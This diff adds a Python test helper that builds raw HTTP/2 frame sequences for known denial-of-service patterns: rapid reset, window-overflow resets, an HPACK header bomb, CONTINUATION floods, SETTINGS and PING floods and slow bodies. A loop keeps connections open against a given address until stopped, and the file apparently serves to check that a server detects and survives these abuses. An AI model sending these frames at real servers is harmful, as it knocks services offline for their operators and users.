@@ -1,0 +1,158 @@
+"""What abuses HTTP/2, frame by frame, and a process that does so until it is stopped:
+
+    http2_abuse.py NAME ADDRESS PORT   keeps AT_ONCE connections that say it; each is closed when the
+                                       other end has closed it, or HOLD_SECONDS later, and dialled
+                                       anew every EVERY_SECONDS at most; prints "at it"
+"""
+
+import contextlib
+import select
+import socket
+import sys
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+from http2_peer import (
+    ACK,
+    CANCEL,
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    HEADERS,
+    PING,
+    PRIORITY,
+    RST_STREAM,
+    SETTINGS,
+    WINDOW_UPDATE,
+    fields,
+    frame,
+    hello,
+    literal,
+    request,
+)
+
+AT_ONCE = 4
+EVERY_SECONDS = 0.1
+HOLD_SECONDS = 0.5
+
+ALLOWED = frame(SETTINGS, ACK, 0)
+STREAMS = range(1, 24, 2)  # few: what is measured is their patience, not their number
+ENTRY = b"\x40" + literal("x-bomb", "v" * 4000)[1:]  # with indexing: then one octet is the field
+
+
+def post(stream: int) -> bytes:
+    return request(stream, "/", END_HEADERS, method="POST")
+
+
+# What is said behind the preface, and what the sidecar counts for it: the reason of an offence, or
+# the outcome of requests.
+OFFENCES: dict[str, tuple[str, bytes]] = {
+    "rapid-reset": (
+        "resets",
+        b"".join(
+            request(stream) + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))
+            for stream in range(1, 1201, 2)
+        ),
+    ),
+    "made-you-reset": (
+        "made_resets",
+        b"".join(
+            request(stream) + frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")  # overflows
+            for stream in range(1, 4001, 2)
+        ),
+    ),
+    "hpack-bomb": (
+        "made_resets",
+        frame(HEADERS, END_STREAM | END_HEADERS, 1, fields() + ENTRY + b"\xbe" * 12_000),
+    ),
+    "continuations": (
+        "continuations",
+        frame(HEADERS, 0, 1, fields()) + frame(CONTINUATION, 0, 1, b"") * 100,
+    ),
+    "head-in-continuations": (
+        "continuations",
+        frame(HEADERS, 0, 1, fields()) + frame(CONTINUATION, 0, 1, literal("x", "v" * 9000)) * 12,
+    ),
+    "settings": ("acknowledgements", frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0") * 3000),
+    "pings": ("acknowledgements", frame(PING, 0, 0, b"12345678") * 3000),
+    "priorities": ("idle_frames", frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 3000),
+    "empty-data": ("idle_frames", post(1) + frame(DATA, 0, 1) * 5000),
+    "window-updates": ("idle_frames", frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 3000),
+    "half-a-head": ("slow_head", frame(HEADERS, 0, 1, fields())),
+}
+OUTCOMES: dict[str, tuple[str, bytes]] = {
+    "huge-head": (
+        "head_too_large",
+        b"".join(
+            frame(HEADERS, END_STREAM, stream, fields())
+            + frame(CONTINUATION, 0, stream, literal("x", "v" * 16_000)) * 5
+            + frame(CONTINUATION, END_HEADERS, stream, b"")
+            for stream in (1, 3)
+        ),
+    ),
+    "slow-bodies": ("body_timeout", b"".join(post(s) + frame(DATA, 0, s, b"x") for s in STREAMS)),
+    "shut-windows": (
+        "idle_timeout",
+        frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0") + b"".join(request(s) for s in STREAMS),
+    ),
+    "tiny-data": ("body_timeout", post(1) + frame(DATA, 0, 1, b"x") * 5000),
+}
+
+
+@contextlib.contextmanager
+def abusing(pod, name: str, address: str, port: int) -> Iterator:
+    """Such a process in this pod, at it within the block."""
+    here = Path(__file__)
+    script = f"{pod.bind(here.parent, 'abuse')}/{here.name}"
+    process = pod.start(["python3", script, name, address, str(port)], name="http2-abuse")
+    process.wait_for_line("at it")
+    try:
+        yield process
+    finally:
+        process.stop()
+
+
+class Talk:
+    """One connection: says all of it, reads whatever comes."""
+
+    def __init__(self, address: str, port: int, text: bytes):
+        self.channel = socket.create_connection((address, port), 5)
+        self.channel.setblocking(False)
+        self.rest = memoryview(text)
+        self.ends = time.monotonic() + HOLD_SECONDS
+
+    def go_on(self) -> bool:
+        """False: it is over."""
+        try:
+            if self.rest:
+                self.rest = self.rest[self.channel.send(self.rest) :]
+            while True:
+                if not self.channel.recv(1 << 16):
+                    return False
+        except BlockingIOError:
+            return time.monotonic() < self.ends
+        except OSError:
+            return False
+
+
+def abuse(name: str, address: str, port: int) -> None:
+    text = hello() + ALLOWED + {**OFFENCES, **OUTCOMES}[name][1]
+    talks: list[Talk] = []
+    due = time.monotonic()
+    print("at it", flush=True)
+    while True:
+        if len(talks) < AT_ONCE and time.monotonic() >= due:
+            due = time.monotonic() + EVERY_SECONDS
+            with contextlib.suppress(OSError):
+                talks.append(Talk(address, port, text))
+        writing = [one.channel for one in talks if one.rest]
+        select.select([one.channel for one in talks], writing, [], 0.02)
+        for one in [one for one in talks if not one.go_on()]:
+            one.channel.close()
+            talks.remove(one)
+
+
+if __name__ == "__main__":
+    abuse(sys.argv[1], sys.argv[2], int(sys.argv[3]))
